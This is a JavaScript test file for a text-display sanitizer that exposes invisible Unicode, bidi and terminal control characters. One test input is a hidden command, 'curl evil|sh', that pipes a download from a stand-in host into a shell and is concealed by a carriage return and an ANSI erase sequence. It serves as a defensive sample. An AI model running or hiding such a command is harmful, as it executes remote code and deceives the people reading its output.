// What a person is shown hides nothing, and moves nothing on a terminal.

import fc from "fast-check";
import { describe, expect, it, test } from "vitest";
import { showControls, showText } from "../../../src/text/visible-text.js";

/** What a terminal or a page would not draw in its place. */
const HIDDEN = /(?![\t\n])[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/gu;

test.each([
  ["curl evil|sh #\r\u001b[2K+echo ok", "curl evil|sh #␍␛[2K+echo ok"],
  ["a\u009b31mb", "a<U+009B>31mb"],
  ["a\u202eb\u2066c", "a<U+202E>b<U+2066>c"],
  ["a\u2028b\u200bc\u00add", "a<U+2028>b<U+200B>c<U+00AD>d"],
  ["tag\u{e0041}\u{e007f}", "tag<U+E0041><U+E007F>"],
  ["\ufe00\u{e0100}\u200d\ufe0f", "<U+FE00><U+E0100><U+200D><U+FE0F>"],
  ["lone\ud800", "lone<U+D800>"],
  ["a\u3164b", "a<U+3164>b"],
  ["tab\tline\nnext", "tab\tline\nnext"],
  ["👩‍💻 ❤️ 👍🏽 1️⃣ 🏳️‍🌈 é größe 漢字", "👩‍💻 ❤️ 👍🏽 1️⃣ 🏳️‍🌈 é größe 漢字"],
  ["😀\ufe0f\ufe0f\u200d\u200d😀", "😀\ufe0f<U+FE0F><U+200D><U+200D>😀"],
  ["one\r\ntwo\r\n", "one\ntwo\n"],
  ["--- a/a\n+++ b/a\n@@ -1 +1 @@\n-one\r\n+two\r\n", "--- a/a\n+++ b/a\n@@ -1 +1 @@\n-one\n+two\n"],
  ["@@ -1 +1 @@\n-one\r\n+one\n", "@@ -1 +1 @@\n-one␍\n+one\n"],
])("%j is shown as %j", (text, expected) => expect(showText(text)).toBe(expected));

describe("what is shown", () => {
  const piece = fc.oneof(
    fc.string({ unit: "binary", maxLength: 8 }),
    fc.constantFrom("\r\n", "\n", "\u001b[2K", "👩‍💻", "❤️", "\u200d", "\ufe0f", "+a", "-b\r", "1️⃣", "\u{e0020}"),
  );
  const text = fc.array(piece, { maxLength: 40 }).map((pieces) => pieces.join(""));

  it("has nothing hidden but inside of emoji", () => {
    fc.assert(
      fc.property(text, (given) => {
        const left = showText(given).match(HIDDEN) ?? [];
        expect(left.filter((character) => !["\u200d", "\ufe0e", "\ufe0f"].includes(character))).toEqual([]);
      }),
      { numRuns: 2000 },
    );
  });

  it("is shown the same again, and in parts as at once", () => {
    fc.assert(
      fc.property(text, fc.integer({ min: 1, max: 3000 }), (given, times) => {
        const once = showText(given);
        expect(showText(once)).toBe(once);
        const line = `${given.replaceAll(/[\r\n]/g, "")}\n`;
        expect(showText(line.repeat(times))).toBe(showText(line).repeat(times));
      }),
      { numRuns: 300 },
    );
  });
});

it("control: the signs for the content of files leave what is merely invisible", () => {
  expect(showControls("a\u200bb\u001b")).toBe("a\u200bb␛");
});
